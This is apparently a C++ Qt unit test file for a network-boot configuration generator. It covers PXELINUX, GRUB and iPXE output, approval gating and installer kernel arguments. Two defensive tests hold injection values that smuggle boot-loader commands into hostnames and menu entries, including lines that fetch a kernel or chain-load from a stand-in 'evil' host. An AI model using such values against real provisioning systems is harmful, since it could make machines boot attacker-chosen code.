#include "core/boot/Banner.h"
#include "core/boot/LoaderConfig.h"
#include "core/boot/LoaderText.h"
#include "tests/unit/core/boot/BootFixture.h"
#include "tests/unit/core/boot/GoldenFile.h"

#include <QTest>

using namespace rackmuster;
using namespace rackmuster::boot;
using namespace rackmuster::tests;

namespace {

ServerIdentity server() {
    return rack().server;
}

MachineBoot localMachine() {
    MachineBoot machine = approvedMachine(1);
    machine.disposition = Disposition::LocalDisk;
    return machine;
}

MachineBoot brieflyParked() {
    MachineBoot machine = parkedMachine(1);
    machine.parksBriefly = true;
    return machine;
}

std::vector<std::string> everyRendering(const MachineBoot& machine, const ImageFiles* image) {
    return {renderPxelinux(machine, image, server()),
            renderPxelinux(machine, image, server(), 0),
            renderPxelinux(machine, image, server(), 1),
            renderGrub(machine, image, server()),
            renderGrubState(machine, image),
            renderIpxe(machine, image, server())};
}

std::vector<std::string> everyScreen(const MachineBoot& machine) {
    return {renderPxelinuxScreen(machine), renderGrubState(machine, nullptr),
            renderIpxe(machine, nullptr, server())};
}

bool contains(const std::string& text, std::string_view part) {
    return text.find(part) != std::string::npos;
}

std::size_t count(std::string_view text, std::string_view part) {
    std::size_t found = 0;
    for (std::size_t at = text.find(part); at != std::string_view::npos;
         at = text.find(part, at + part.size()))
        ++found;
    return found;
}

ImageFiles redHat(const std::string& version) {
    ImageFiles image = rockyImage();
    image.version = version;
    return image;
}

} // namespace

class TestLoaderConfig : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void rendersTextForText_data();
    void rendersTextForText();
    void rendersTheParkedScreenTextForText();
    void rendersEveryFamilyTextForText_data();
    void rendersEveryFamilyTextForText();
    void neverNamesAKernelUnlessApproved();
    void namesNoKernelWithoutImageOrTicket();
    void installsOnlyWithEverythingAtHand();
    void parkedScreensShowSlotNameAndMac();
    void parkedScreensAreLargeAndFitTheConsole();
    void parkedScreensDrawWhatCanBeDrawn();
    void waitingGrubSeesThatItsSlotHasChanged();
    void parkedScreensSayWhenThereIsNoSlot();
    void everyParkedLoaderAsksAgain();
    void pxelinuxStartsAnewBeforeItRunsOut();
    void briefParkingEndsOnTheLocalDisk();
    void grubStateTellsWhenToGoOn();
    void textOfOthersCannotBecomeACommand_data();
    void textOfOthersCannotBecomeACommand();
    void redHatArgumentsFollowTheRelease_data();
    void redHatArgumentsFollowTheRelease();
    void debianArgumentsNameTheMirror();
    void debianIsToldOfNoNameServerAndNoGateway();
    void debianLeavesOutAnEmptyName();
    void ubuntuArgumentsNameImageAndSeed();
    void grubKeepsTheSemicolonOfUbuntusSeed();
    void suseArgumentsFollowTheRelease_data();
    void suseArgumentsFollowTheRelease();
    void suseLeavesOutAnEmptyName();
    void installersAreToldWhereToLog();
    void extraArgumentsComeLast();
    void pxelinuxAddsBootifItself();
    void portsOtherThan80AreNamedEverywhere();
    void grubQuotesArguments();
    void grubStartsLinuxAsItKnowsTo();
    void entriesGetNoAnswerFile();
    void unknownEntriesAreParked();
    void menusCannotSpeakToIpxe();
    void extraArgumentsFollowThoseOfTheEntry();
};

void TestLoaderConfig::rendersTextForText_data() {
    QTest::addColumn<int>("disposition");
    QTest::newRow("parked") << 0;
    QTest::newRow("parked-briefly") << 1;
    QTest::newRow("install") << 2;
    QTest::newRow("local") << 3;
    QTest::newRow("entry") << 4;
    QTest::newRow("kernel-only") << 5;
    QTest::newRow("efi-program") << 6;
}

void TestLoaderConfig::rendersTextForText() {
    QFETCH(int, disposition);
    const std::array machines{parkedMachine(1),
                              brieflyParked(),
                              approvedMachine(1),
                              localMachine(),
                              approvedFor(1, "Rescue a system"),
                              approvedFor(1, "Memory test"),
                              approvedFor(1, "UEFI memory test")};
    const MachineBoot& machine = machines[static_cast<std::size_t>(disposition)];
    const ImageFiles image = rockyImage();
    const QString tag = QString::fromLatin1(QTest::currentDataTag());
    const std::vector<std::pair<QString, std::string>> files{
        {QStringLiteral("loader/pxelinux-%1.cfg").arg(tag), renderPxelinux(machine, &image, server())},
        {QStringLiteral("loader/grub-%1.cfg").arg(tag), renderGrub(machine, &image, server())},
        {QStringLiteral("loader/%1.ipxe").arg(tag), renderIpxe(machine, &image, server())}};
    for (const auto& [name, text] : files) {
        const QString difference = differenceToGolden(name, text);
        QVERIFY2(difference.isEmpty(), qPrintable(name + QStringLiteral(": ") + difference));
    }
}

void TestLoaderConfig::rendersTheParkedScreenTextForText() {
    const std::vector<std::pair<QString, std::string>> files{
        {QStringLiteral("loader/pxelinux-parked.screen"), renderPxelinuxScreen(parkedMachine(1))},
        {QStringLiteral("loader/grub-parked.state"), renderGrubState(parkedMachine(1), nullptr)}};
    for (const auto& [name, text] : files) {
        const QString difference = differenceToGolden(name, text);
        QVERIFY2(difference.isEmpty(), qPrintable(name + QStringLiteral(": ") + difference));
    }
}

void TestLoaderConfig::rendersEveryFamilyTextForText_data() {
    QTest::addColumn<bool>("isUbuntu");
    QTest::newRow("ubuntu") << true;
    QTest::newRow("suse") << false;
}

void TestLoaderConfig::rendersEveryFamilyTextForText() {
    QFETCH(bool, isUbuntu);
    const ImageFiles image = isUbuntu ? ubuntuImage() : suseImage();
    const MachineBoot machine = approvedMachine(1);
    const QString tag = QString::fromLatin1(QTest::currentDataTag());
    const std::vector<std::pair<QString, std::string>> files{
        {QStringLiteral("loader/pxelinux-install-%1.cfg").arg(tag),
         renderPxelinux(machine, &image, server())},
        {QStringLiteral("loader/grub-install-%1.cfg").arg(tag), renderGrub(machine, &image, server())},
        {QStringLiteral("loader/install-%1.ipxe").arg(tag), renderIpxe(machine, &image, server())}};
    for (const auto& [name, text] : files) {
        const QString difference = differenceToGolden(name, text);
        QVERIFY2(difference.isEmpty(), qPrintable(name + QStringLiteral(": ") + difference));
    }
}

// R42: the promise that nothing is wiped without an approval.
void TestLoaderConfig::neverNamesAKernelUnlessApproved() {
    const ImageFiles image = rockyImage();
    MachineBoot refused = approvedMachine(1);
    refused.disposition = Disposition::Refused;
    for (MachineBoot machine : {parkedMachine(1), brieflyParked(), localMachine(), refused}) {
        machine.ticket = ticket;
        machine.imageId = image.id;
        machine.kernelArguments = "inst.text";
        std::vector<std::string> texts = everyRendering(machine, &image);
        texts.push_back(renderPxelinuxScreen(machine));
        for (const std::string& text : texts) {
            QVERIFY2(!hasKernelLine(text), text.c_str());
            QVERIFY2(!contains(text, ticket), text.c_str());
            QVERIFY2(!contains(text, "inst."), text.c_str());
        }
    }
    // The scanner itself sees a kernel where there is one.
    for (const std::string& text :
         {renderPxelinux(approvedMachine(1), &image, server()),
          renderGrub(approvedMachine(1), &image, server()), renderIpxe(approvedMachine(1), &image, server())})
        QVERIFY(hasKernelLine(text));
}

void TestLoaderConfig::namesNoKernelWithoutImageOrTicket() {
    for (const std::string& text : everyRendering(approvedMachine(1), nullptr))
        QVERIFY(!hasKernelLine(text));
    const ImageFiles image = rockyImage();
    MachineBoot machine = approvedMachine(1);
    machine.ticket.clear();
    for (const std::string& text : everyRendering(machine, &image))
        QVERIFY(!hasKernelLine(text));
    QCOMPARE(kernelArguments(machine, image, server()), std::string());
}

void TestLoaderConfig::installsOnlyWithEverythingAtHand() {
    ImageFiles image = rockyImage();
    QCOMPARE(renderedDisposition(approvedMachine(1), &image), Disposition::Install);
    QCOMPARE(renderedDisposition(approvedMachine(1), nullptr), Disposition::Parked);
    image.initrdPath.clear();
    QCOMPARE(renderedDisposition(approvedMachine(1), &image), Disposition::Parked);
    QCOMPARE(renderedDisposition(localMachine(), nullptr), Disposition::LocalDisk);
}

void TestLoaderConfig::parkedScreensShowSlotNameAndMac() {
    for (const std::string& text : everyScreen(parkedMachine(1)))
        QVERIFY2(contains(text, "SLOT 12  node-12  WAITING FOR APPROVAL  52:54:00:00:00:01"), text.c_str());
}

// 25 lines are what a console has, and the last is the prompt's.
void TestLoaderConfig::parkedScreensAreLargeAndFitTheConsole() {
    const ParkedScreen screen = parkedScreen(parkedMachine(1));
    QCOMPARE(screen.picture.size(), std::size_t(7 + 1 + 7 + 1 + 7));
    const auto stands = [&](std::size_t row, const std::vector<std::string>& lines) {
        return std::equal(lines.begin(), lines.end(),
                          screen.picture.begin() + static_cast<std::ptrdiff_t>(row));
    };
    QVERIFY(stands(0, bannerLines("12", 2)));
    QVERIFY(stands(8, bannerLines("NODE-12", 1)));
    QVERIFY(stands(16, bannerLines("00:00:01", 1)));
    const std::string pxelinux = renderPxelinuxScreen(parkedMachine(1));
    QCOMPARE(std::count(pxelinux.begin(), pxelinux.end(), '\n'), 24);
    QVERIFY(pxelinux.starts_with('\f'));
}

void TestLoaderConfig::parkedScreensDrawWhatCanBeDrawn() {
    MachineBoot machine = parkedMachine(1);
    machine.hostname = "node-12.rack.example.com";
    QCOMPARE(parkedScreen(machine).picture, parkedScreen(parkedMachine(1)).picture);
    machine.hostname = "a-name-that-is-too-long";
    machine.slotLabel.clear();
    QCOMPARE(parkedScreen(machine).picture, bannerLines("00:00:01", 1));
}

// A grub that waits reads its configuration once, and only this file again.
void TestLoaderConfig::waitingGrubSeesThatItsSlotHasChanged() {
    MachineBoot machine = parkedMachine(1);
    const std::string before = renderGrubState(machine, nullptr);
    machine.slotLabel = "13";
    const std::string after = renderGrubState(machine, nullptr);
    QVERIFY(contains(
        before, "if [ \"$shown\" != 'SLOT 12  node-12  WAITING FOR APPROVAL  52:54:00:00:00:01' ]; then\n"
                "  clear\n"));
    QVERIFY(contains(after, "if [ \"$shown\" != 'SLOT 13  node-12"));
    QVERIFY(
        contains(renderGrub(machine, nullptr, server()), "set shown=\n")); // what came before is no screen
}

void TestLoaderConfig::parkedScreensSayWhenThereIsNoSlot() {
    const MachineBoot machine{.mac = mac(1)};
    for (const std::string& text : everyScreen(machine))
        QVERIFY2(contains(text, "NO SLOT YET  WAITING FOR APPROVAL  52:54:00:00:00:01"), text.c_str());
}

void TestLoaderConfig::everyParkedLoaderAsksAgain() {
    const MachineBoot machine = parkedMachine(1);
    const std::string pxelinux = renderPxelinux(machine, nullptr, server());
    QVERIFY(pxelinux.starts_with("SERIAL 0 115200\n"));
    for (const char* const line :
         {"\nDEFAULT again\n", "\nPROMPT 1\n", "\nTIMEOUT 50\n", "\nONTIMEOUT again\n", "\nIMPLICIT 0\n",
          "\nTOTALTIMEOUT 300\n", "\n  CONFIG pxelinux.cfg/wait-59\n", "\nDISPLAY pxelinux.cfg/screen\n"})
        QVERIFY2(contains(pxelinux, line), line);
    QVERIFY(!contains(pxelinux, "LOCALBOOT"));

    const std::string grub = renderGrub(machine, nullptr, server());
    QVERIFY(contains(grub, "source (tftp,192.168.0.251)/m/525400000001/grub/state.cfg"));
    QVERIFY(contains(grub, "sleep 5"));
    QVERIFY(!contains(grub, "exit"));

    const std::string ipxe = renderIpxe(machine, nullptr, server());
    QVERIFY(contains(ipxe, "\n:wait\nset esc")); // whoever asked in vain draws the screen anew
    QVERIFY(contains(ipxe, "chain --replace http://192.168.0.251/m/525400000001/boot.ipxe || goto wait"));
    QVERIFY(!contains(ipxe, "sanboot"));
    QVERIFY(!contains(ipxe, "exit"));
}

void TestLoaderConfig::pxelinuxStartsAnewBeforeItRunsOut() {
    const std::string last = renderPxelinux(parkedMachine(1), nullptr, server(), 0);
    QVERIFY2(contains(last, "\n  PXE pxelinux.0\n"), last.c_str());
    QVERIFY(!contains(last, "CONFIG"));
    QVERIFY(!contains(last, "LOCALBOOT"));
}

void TestLoaderConfig::briefParkingEndsOnTheLocalDisk() {
    const MachineBoot machine = brieflyParked();
    QVERIFY(contains(renderPxelinux(machine, nullptr, server()), "CONFIG pxelinux.cfg/wait-11\n"));
    QVERIFY(contains(renderPxelinux(machine, nullptr, server(), 1), "CONFIG pxelinux.cfg/wait-0\n"));
    QVERIFY(contains(renderPxelinux(machine, nullptr, server(), 0), "LOCALBOOT 0\n"));
    QVERIFY(contains(renderGrub(machine, nullptr, server()), "for step in 12 11 10 9 8 7 6 5 4 3 2 1; do"));
    QVERIFY(contains(renderGrub(machine, nullptr, server()), "exit 1\n"));
    QVERIFY(contains(renderIpxe(machine, nullptr, server()), "iseq ${waited} 12 && goto local ||"));
    QVERIFY(contains(renderIpxe(machine, nullptr, server()), "sanboot --no-describe --drive 0x80"));
}

void TestLoaderConfig::grubStateTellsWhenToGoOn() {
    const ImageFiles image = rockyImage();
    QVERIFY(renderGrubState(parkedMachine(1), &image).starts_with("set state=parked\n"));
    QVERIFY(renderGrubState(approvedMachine(1), nullptr).starts_with("set state=parked\n"));
    QCOMPARE(renderGrubState(approvedMachine(1), &image), std::string("set state=go\n"));
    QCOMPARE(renderGrubState(localMachine(), &image), std::string("set state=disk\n"));
}

void TestLoaderConfig::textOfOthersCannotBecomeACommand_data() {
    QTest::addColumn<QByteArray>("text");
    QTest::newRow("line break") << QByteArray("x\nlinux /vmlinuz");
    QTest::newRow("carriage return") << QByteArray("x\rKERNEL vmlinuz");
    QTest::newRow("grub separators") << QByteArray("x'; linux /vmlinuz; echo '");
    QTest::newRow("grub substitution") << QByteArray("$(kernel)${state}");
    QTest::newRow("iPXE operators") << QByteArray("x && kernel http://evil/vmlinuz ||");
    QTest::newRow("iPXE settings") << QByteArray("${net0/mac}");
    QTest::newRow("NUL") << QByteArray("x\0kernel y", 10);
    QTest::newRow("not ASCII") << QByteArray("\xE4\xB8\x80\xE2\x80\xAE");
}

// R57
void TestLoaderConfig::textOfOthersCannotBecomeACommand() {
    QFETCH(QByteArray, text);
    MachineBoot plain = parkedMachine(1);
    plain.slotLabel = plain.hostname = "_"; // shown, but not drawn either
    MachineBoot odd = plain;
    odd.slotLabel = odd.hostname = text.toStdString();
    const std::vector<std::string> expected = everyRendering(plain, nullptr);
    const std::vector<std::string> actual = everyRendering(odd, nullptr);
    for (std::size_t i = 0; i < expected.size(); ++i) {
        for (const char* const syntax : {"\n", "'", "&&", "||", "${", "$"})
            QCOMPARE(count(actual[i], syntax), count(expected[i], syntax));
        for (const char c : actual[i])
            QVERIFY(c == '\n' || (c >= ' ' && c <= '~') || std::string_view("\u2588").find(c) < 3);
    }
}

void TestLoaderConfig::redHatArgumentsFollowTheRelease_data() {
    QTest::addColumn<QByteArray>("version");
    QTest::addColumn<bool>("isOld");
    QTest::newRow("RHEL 5") << QByteArray("5.11") << true;
    QTest::newRow("RHEL 6") << QByteArray("6.10") << true;
    QTest::newRow("RHEL 7") << QByteArray("7") << false;
    QTest::newRow("RHEL 9") << QByteArray("9.4") << false;
    QTest::newRow("RHEL 10") << QByteArray("10.0") << false;
    QTest::newRow("Fedora") << QByteArray("40") << false;
    QTest::newRow("no number") << QByteArray("Rawhide") << false;
    QTest::newRow("empty") << QByteArray("") << false;
}

// P80
void TestLoaderConfig::redHatArgumentsFollowTheRelease() {
    QFETCH(QByteArray, version);
    QFETCH(bool, isOld);
    const std::string line = kernelArguments(approvedMachine(1), redHat(version.toStdString()), server());
    const std::string answer = "http://192.168.0.251/t/" + ticket + "/answer";
    const std::string repo = "http://192.168.0.251/m/525400000001/repo";
    if (isOld) {
        QCOMPARE(line, "ks=" + answer + " repo=" + repo +
                           " kssendmac kssendsn ksdevice=52:54:00:00:00:01 ip=dhcp "
                           "BOOTIF=01-52-54-00-00-00-01 console=tty0");
    } else {
        QCOMPARE(line,
                 "inst.ks=" + answer + " inst.repo=" + repo +
                     " inst.ks.sendmac inst.ks.sendsn ip=dhcp BOOTIF=01-52-54-00-00-00-01 console=tty0");
    }
}

void TestLoaderConfig::installersAreToldWhereToLog() {
    ServerIdentity listening = server();
    listening.syslogPort = 5514;
    const auto line = [&](const ImageFiles& image) {
        return kernelArguments(approvedMachine(1), image, listening);
    };
    QVERIFY(contains(line(redHat("9.4")), " inst.syslog=192.168.0.251:5514 "));
    QVERIFY(contains(line(redHat("6.10")), " syslog=192.168.0.251:5514 "));
    QVERIFY(contains(line(debianImage()), " log_host=192.168.0.251 log_port=5514 "));
    QVERIFY(!contains(line(suseImage()), "loghost="));
    listening.syslogPort = 514;
    QVERIFY(contains(line(suseImage()), " loghost=192.168.0.251 "));
}

void TestLoaderConfig::debianArgumentsNameTheMirror() {
    ServerIdentity other = server();
    other.httpPort = 8080;
    QCOMPARE(kernelArguments(approvedMachine(1), debianImage(), other),
             "auto=true priority=critical url=http://192.168.0.251:8080/t/" + ticket +
                 "/answer interface=auto hostname=node-12 domain= mirror/country=manual mirror/protocol=http "
                 "mirror/http/hostname=192.168.0.251:8080 mirror/http/directory=/m/525400000001/repo "
                 "mirror/http/proxy= "
                 "mirror/suite=bookworm BOOTIF=01-52-54-00-00-00-01 console=tty0");
}

// The installer stops before its preseed and asks about either; both are usual in a rack with no way out.
void TestLoaderConfig::debianIsToldOfNoNameServerAndNoGateway() {
    ServerIdentity alone = server();
    alone.dns.clear();
    alone.gateway.reset();
    const std::string line = kernelArguments(approvedMachine(1), debianImage(), alone);
    QVERIFY(contains(line, " netcfg/get_nameservers= "));
    QVERIFY(contains(line, " netcfg/no_default_route=true "));

    alone.dns = {Ipv4Address(192, 168, 0, 1)};
    alone.gateway = Ipv4Address(192, 168, 0, 1);
    QVERIFY(!contains(kernelArguments(approvedMachine(1), debianImage(), alone), "netcfg/"));
}

void TestLoaderConfig::debianLeavesOutAnEmptyName() {
    MachineBoot machine = approvedMachine(1);
    machine.hostname.clear();
    const std::string line = kernelArguments(machine, debianImage(), server());
    QVERIFY(!contains(line, " hostname="));
    QVERIFY(contains(line, " domain= "));
}

void TestLoaderConfig::ubuntuArgumentsNameImageAndSeed() {
    ServerIdentity other = server();
    other.httpPort = 8080;
    QCOMPARE(kernelArguments(approvedMachine(1), ubuntuImage(), other),
             "ip=dhcp url=http://192.168.0.251:8080/m/525400000001/image.iso root=/dev/ram0 "
             "ramdisk_size=1500000 autoinstall ds=nocloud-net;s=http://192.168.0.251:8080/t/" +
                 ticket + "/ cloud-config-url=/dev/null BOOTIF=01-52-54-00-00-00-01 console=tty0");
}

// Grub's shell would end the command there; pxelinux and iPXE hand it on.
void TestLoaderConfig::grubKeepsTheSemicolonOfUbuntusSeed() {
    const ImageFiles image = ubuntuImage();
    const std::string seed = "ds=nocloud-net;s=http://192.168.0.251/t/" + ticket + "/";
    QVERIFY(contains(renderGrub(approvedMachine(1), &image, server()), " '" + seed + "' "));
    QVERIFY(contains(renderPxelinux(approvedMachine(1), &image, server()), " " + seed + " "));
    QVERIFY(contains(renderIpxe(approvedMachine(1), &image, server()), " " + seed + " "));
}

void TestLoaderConfig::suseArgumentsFollowTheRelease_data() {
    QTest::addColumn<QByteArray>("version");
    QTest::addColumn<QByteArray>("network");
    const QByteArray now = "ifcfg=*=dhcp self_update=0";
    QTest::newRow("SLE 11") << QByteArray("11.3") << QByteArray("netsetup=dhcp");
    QTest::newRow("SLE 12") << QByteArray("12") << now;
    QTest::newRow("SLE 15") << QByteArray("15.5") << now;
    QTest::newRow("Leap 42") << QByteArray("42.3") << now;
    QTest::newRow("Tumbleweed") << QByteArray("20251120") << now;
    QTest::newRow("empty") << QByteArray() << now;
}

void TestLoaderConfig::suseArgumentsFollowTheRelease() {
    QFETCH(QByteArray, version);
    QFETCH(QByteArray, network);
    QCOMPARE(kernelArguments(approvedMachine(1), suseImage(version.toStdString()), server()),
             "install=http://192.168.0.251/m/525400000001/repo autoyast=http://192.168.0.251/t/" + ticket +
                 "/answer " + network.toStdString() +
                 " hostname=node-12 BOOTIF=01-52-54-00-00-00-01 console=tty0");
}

void TestLoaderConfig::suseLeavesOutAnEmptyName() {
    MachineBoot machine = approvedMachine(1);
    machine.hostname.clear();
    QVERIFY(!contains(kernelArguments(machine, suseImage(), server()), "hostname="));
}

void TestLoaderConfig::extraArgumentsComeLast() {
    MachineBoot machine = approvedMachine(1);
    machine.kernelArguments = " console=ttyS0,115200\n inst.text ";
    const std::string line = kernelArguments(machine, rockyImage(), server());
    QVERIFY(line.ends_with(" console=tty0 console=ttyS0,115200  inst.text"));
}

// R18
void TestLoaderConfig::pxelinuxAddsBootifItself() {
    const ImageFiles image = rockyImage();
    const std::string text = renderPxelinux(approvedMachine(1), &image, server());
    QVERIFY(!contains(text, "BOOTIF"));
    QVERIFY(contains(text, "\n  IPAPPEND 2\n"));
    QVERIFY(contains(renderGrub(approvedMachine(1), &image, server()), "BOOTIF=01-52-54-00-00-00-01"));
    QVERIFY(contains(renderIpxe(approvedMachine(1), &image, server()), "BOOTIF=01-52-54-00-00-00-01"));
}

void TestLoaderConfig::portsOtherThan80AreNamedEverywhere() {
    ServerIdentity other = server();
    other.httpPort = 8080;
    const ImageFiles image = rockyImage();
    const std::string grub = renderGrub(approvedMachine(1), &image, other);
    QVERIFY(contains(grub, "linux (http,192.168.0.251:8080)/m/525400000001/vmlinuz"));
    QVERIFY(contains(grub, "linux (tftp,192.168.0.251)/m/525400000001/vmlinuz"));
    QVERIFY(!contains(renderIpxe(approvedMachine(1), &image, other), "http://192.168.0.251/"));
}

void TestLoaderConfig::grubQuotesArguments() {
    const ImageFiles image = rockyImage();
    MachineBoot machine = approvedMachine(1);
    machine.kernelArguments = "a=b;c d=$e f='g'";
    QVERIFY(contains(renderGrub(machine, &image, server()), " 'a=b;c' 'd=$e' 'f='\\''g'\\'''; then"));
}

void TestLoaderConfig::grubStartsLinuxAsItKnowsTo() {
    const ImageFiles image = rockyImage();
    const std::string either = renderGrub(approvedMachine(1), &image, server());
    QVERIFY(contains(either, "if linux (") && contains(either, "if linuxefi (") &&
            contains(either, "initrdefi"));
    const std::string plain = renderGrub(approvedMachine(1), &image, server(), "linux");
    QVERIFY(contains(plain, "if linux (") && contains(plain, "if initrd (") && !contains(plain, "efi ("));
    const std::string old = renderGrub(approvedMachine(1), &image, server(), "linuxefi");
    QVERIFY(contains(old, "if linuxefi (") && contains(old, "if initrdefi (") &&
            !contains(old, "if linux ("));
}

// R42
void TestLoaderConfig::entriesGetNoAnswerFile() {
    const ImageFiles image = rockyImage();
    for (const char* const entry : {"Install", "Rescue a system", "Memory test"}) {
        for (const std::string& text : everyRendering(approvedFor(1, entry), &image)) {
            QVERIFY2(!contains(text, ticket), text.c_str());
            QVERIFY2(!contains(text, "/repo"), text.c_str()); // it is gone as soon as the entry runs
        }
    }
}

void TestLoaderConfig::unknownEntriesAreParked() {
    const ImageFiles image = rockyImage();
    for (const std::string& text : everyRendering(approvedFor(1, "Rescue"), &image))
        QVERIFY2(!hasKernelLine(text), text.c_str());
    QCOMPARE(kernelArguments(approvedFor(1, "Rescue"), image, server()), std::string());
}

void TestLoaderConfig::menusCannotSpeakToIpxe() {
    ImageFiles image = rockyImage();
    image.entries = {
        {"x || shell", "isolinux/memtest", {}, "a || chain http://evil/ && b ${net0/mac} c\nshell"}};
    const std::string text = renderIpxe(approvedFor(1, "x || shell"), &image, server());
    QVERIFY2(contains(text, "/vmlinuz a chain http://evil/ b c shell || goto retry\n"), text.c_str());
    QVERIFY(contains(text, "echo Starting x ?? shell of "));
    QVERIFY(!contains(renderPxelinux(approvedFor(1, "x || shell"), &image, server()), "\nshell"));
}

void TestLoaderConfig::extraArgumentsFollowThoseOfTheEntry() {
    MachineBoot machine = approvedFor(1, "Rescue a system");
    machine.kernelArguments = "console=ttyS0";
    QCOMPARE(kernelArguments(machine, rockyImage(), server()),
             std::string("inst.stage2=http://192.168.0.251/i/rocky-9 inst.rescue quiet ip=dhcp "
                         "BOOTIF=01-52-54-00-00-00-01 console=ttyS0"));
    machine.menuEntry = "UEFI memory test";
    QCOMPARE(kernelArguments(machine, rockyImage(), server()), std::string("console=ttyS0"));
}

QTEST_APPLESS_MAIN(TestLoaderConfig)
#include "tst_LoaderConfig.moc"
